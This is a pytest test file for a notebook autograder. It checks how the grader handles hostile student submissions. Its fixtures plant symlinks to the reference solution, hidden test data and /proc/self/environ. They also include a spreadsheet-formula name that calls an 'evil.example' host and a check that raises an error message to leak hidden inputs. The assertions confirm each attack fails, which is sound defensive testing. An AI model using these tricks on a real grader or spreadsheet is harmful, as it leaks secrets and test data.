"""What the host does with hostile input (#32): links in a submission folder, a link posing as
a classmate's notebook, a student's file where the assignment's data goes, values that cross
only as descriptions, a number no float holds, an oversized reply, a cell of blank lines,
colliding and reserved ids, markup and formulas in names, a hidden check's exception
message. One graded run per kernel provider, beside a correct notebook that must keep full
marks; every assertion reads that run's files."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from build_template import STUBS, notebook, write  # type: ignore[import-not-found]
from make_examples import CORRECT  # type: ignore[import-not-found]
from nbformat.v4 import new_code_cell

from tests.conftest import SANDBOXED, GradedRun, make_home, provider_or_skip, run_grader

pytestmark = SANDBOXED

REF_MARK = "REFERENCE-SOURCE-5a1e"
HIDDEN_MARK = "HIDDEN-DATA-77c2"
ENV_MARK = "HARNESS-ENV-0b9d"
LEAK = "LEAKED-INPUTS:"
FORMULA = '=HYPERLINK("http://evil.example/"&B2,"x")[/]'

READ_LINKS = """
for name in sorted(os.listdir('.')):
    try:
        print(name, '=>', open(name).read()[:300])
    except Exception as e:
        print(name, '->', type(e).__name__)
"""


def _with(stubs: dict[str, str], *cells: str, at: int = 2) -> Any:
    nb = notebook(stubs)
    for k, src in enumerate(cells):
        nb.cells.insert(at + k, new_code_cell(src))
    return nb


def _inputs(base: Path, home: Path) -> list[Path]:
    """The hostile class: a folder of submissions, and a Gradescope export whose student's
    name is a spreadsheet formula and rich markup."""
    subs = base / "subs"
    subs.mkdir()
    write(subs / "correct.ipynb", notebook(CORRECT))
    (subs / "copycat.ipynb").symlink_to(subs / "correct.ipynb")  # a classmate's work
    linker = subs / "linker"
    linker.mkdir()
    write(linker / "linker.ipynb", _with(CORRECT, READ_LINKS))
    (linker / "ok.txt").write_text("mine")
    (linker / "inside.txt").symlink_to("ok.txt")  # stays inside: read as the file
    (linker / "solution.py").symlink_to(home / "reference" / "intro_ann" / "solution.py")
    (linker / "holdout.csv").symlink_to(
        home / "assignments" / "intro_ann" / "hidden_data" / "h.csv"
    )
    (linker / "environ").symlink_to("/proc/self/environ")
    (linker / "up").symlink_to(home)  # a folder link: never descended
    data_file = subs / "data_file"
    data_file.mkdir()
    write(data_file / "data_file.ipynb", notebook(CORRECT))
    (data_file / "data").write_text("a plain file where the assignment's data/ goes")
    wrong = {
        **CORRECT,
        "accuracy": "def accuracy(probs, y, threshold=0.5):\n    return np.zeros(13, complex)",
        "perceptron_predict": "def perceptron_predict(X, w, b):\n    return np.array(['xyz'] * 7)",
        "bce_loss": "def bce_loss(p, y):\n    return 10**400",
    }
    write(subs / "wrong_values.ipynb", notebook(wrong))
    big = {**CORRECT, "train_epoch": "def train_epoch(*a):\n    return '0' * (20 * 2**20)"}
    write(subs / "oversized.ipynb", notebook(big))
    leak = "def bce_loss(p, y):\n    raise ValueError('" + LEAK + "' + repr(p.tolist()))"
    write(subs / "exfiltrate.ipynb", notebook({**CORRECT, "bce_loss": leak}))
    blank = {**CORRECT, "train_epoch": "oops = (" + "\n" * 110_000}  # missing: its cell is read
    write(subs / "blank_lines.ipynb", notebook(blank))
    for name in ("alice.ipynb", "Alice-2.ipynb", "alice-2.ipynb", "gradebook.csv.ipynb"):
        write(subs / name, notebook(STUBS))
    scope = base / "gradescope"  # a name is whatever the LMS's metadata says
    (scope / "submission_1").mkdir(parents=True)
    write(scope / "submission_1" / "hw.ipynb", notebook(STUBS))
    meta = {"submission_1": {":submitters": [{":name": FORMULA, ":sid": "1001"}]}}
    (scope / "submission_metadata.yml").write_text(json.dumps(meta))  # JSON is YAML
    return [subs, scope]


@pytest.fixture(scope="session", params=["fresh", "zygote"])
def edges(
    tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest
) -> Iterator[GradedRun]:
    kernels = provider_or_skip(request)
    base = tmp_path_factory.mktemp(f"edges-{kernels}")
    home = make_home(base / "home")
    sol = home / "reference" / "intro_ann" / "solution.py"
    sol.write_text(f"# {REF_MARK}\n" + sol.read_text())
    hidden = home / "assignments" / "intro_ann" / "hidden_data"
    hidden.mkdir()
    (hidden / "h.csv").write_text(HIDDEN_MARK)
    data = home / "assignments" / "intro_ann" / "data"  # the assignment's own data/ folder
    data.mkdir()
    (data / "classes.csv").write_text("label,name\n0,tshirt\n")
    out = base / "out"
    args = ["grade", "intro_ann", *map(str, _inputs(base, home)), "--out", str(out)]
    proc = run_grader([*args, "-j", "2", "--kernels", kernels], home, base / "cache",
                      env_extra={"GRADER_TEST_SECRET": ENV_MARK})  # fmt: skip
    reports = {p.parent.name: json.loads(p.read_text()) for p in out.glob("*/report.json")}
    yield GradedRun(home, base / "cache", out, proc, reports)


def _tests(report: dict[str, Any], stub: str) -> list[dict[str, Any]]:
    return [t for t in report["tests"] if t["stub"] == stub]


def test_the_run_ends_well_and_the_correct_notebook_keeps_full_marks(edges: GradedRun) -> None:
    assert edges.proc.returncode == 0, edges.proc.stderr[-3000:]
    assert edges.reports["correct"]["score"] == 100
    assert edges.reports["blank_lines"]["score"] < 100  # its own stub is lost, nothing else
    assert (edges.out / "gradebook.csv").is_file() and (edges.out / "summary.html").is_file()
    assert all(r["status"] == "graded" for r in edges.reports.values()), {
        k: r["output"][:200] for k, r in edges.reports.items() if r["status"] != "graded"
    }


def test_links_are_never_followed_out_of_a_submission(edges: GradedRun) -> None:
    assert "copycat" not in edges.reports  # a link is not a submission
    assert any(
        "copycat.ipynb" in line and "link" in line for line in edges.proc.stderr.splitlines()
    )
    r = edges.reports["linker"]
    printed = "".join(c["output"] for c in r["cells"])
    assert "inside.txt => mine" in printed and "ok.txt => mine" in printed
    for name in ("solution.py", "holdout.csv", "environ", "up"):
        assert f"{name} =>" not in printed and name in r["submission"]["note"]
    assert r["score"] == 100


def test_nothing_secret_in_any_file_the_run_wrote(edges: GradedRun) -> None:
    for path in edges.out.rglob("*"):
        if path.is_file():
            text = path.read_text(errors="replace")
            for mark in (REF_MARK, HIDDEN_MARK, ENV_MARK):
                assert mark not in text, (path, mark)


def test_a_file_where_the_assignments_data_goes_costs_only_that_file(edges: GradedRun) -> None:
    r = edges.reports["data_file"]
    assert r["score"] == 100 and "left out: data" in r["submission"]["note"]


def test_wrong_arrays_and_huge_numbers_fail_their_checks(edges: GradedRun) -> None:
    r = edges.reports["wrong_values"]
    for stub in ("accuracy", "perceptron_predict", "bce_loss"):
        assert [t["outcome"] for t in _tests(r, stub)] and all(
            t["outcome"] != "passed" and t["score"] == 0 for t in _tests(r, stub)
        ), _tests(r, stub)
    assert all(t["outcome"] == "passed" for t in _tests(r, "train"))


def test_an_oversized_reply_is_refused_before_it_is_read(edges: GradedRun) -> None:
    r = edges.reports["oversized"]
    lost = _tests(r, "train_epoch")
    assert lost and all(t["score"] == 0 for t in lost)
    assert any("too large" in t["output"] for t in lost), lost
    assert all(t["outcome"] == "passed" for t in _tests(r, "evaluate"))


def test_a_hidden_check_shows_no_exception_message(edges: GradedRun) -> None:
    """The student's own line is shown (it holds ``LEAK`` as written); the message, which
    holds the hidden inputs after it, is not."""
    r = edges.reports["exfiltrate"]
    public, hidden = _tests(r, "bce_loss")
    assert LEAK + "[" in public["output"]  # a public check's message is the student's
    assert LEAK + "[" not in json.dumps(hidden) and "ValueError" in hidden["output"]
    assert hidden["error"]["frames"] and hidden["error"]["message"] == ""
    results = json.loads((edges.out / "exfiltrate" / "results.json").read_text())
    shown = [t for t in results["tests"] if t["name"] == hidden["name"]]
    assert shown and LEAK + "[" not in json.dumps(shown)
    page = (edges.out / "exfiltrate" / "feedback.html").read_text()
    start = page.index('id="bce_loss-hidden-probabilities-and-labels"')  # its card
    card = page[start : page.index("</section>", start)]
    assert "ValueError" in card and LEAK + "[" not in card


def test_ids_are_unique_and_never_a_file_the_run_writes(edges: GradedRun) -> None:
    ids = set(edges.reports)
    assert {"alice", "Alice-2", "alice-2-2", "gradebook.csv-2"} <= ids, sorted(ids)
    assert len({i.casefold() for i in ids}) == len(ids)


def test_names_are_text_in_the_table_and_the_gradebook(edges: GradedRun) -> None:
    assert "Grading summary" in edges.proc.stdout
    with (edges.out / "gradebook.csv").open() as f:
        rows = list(csv.reader(f))
    names = [row[0] for row in rows[1:]]
    assert "'" + FORMULA in names, names
    assert not any(n.startswith(("=", "+", "-", "@")) for n in names)
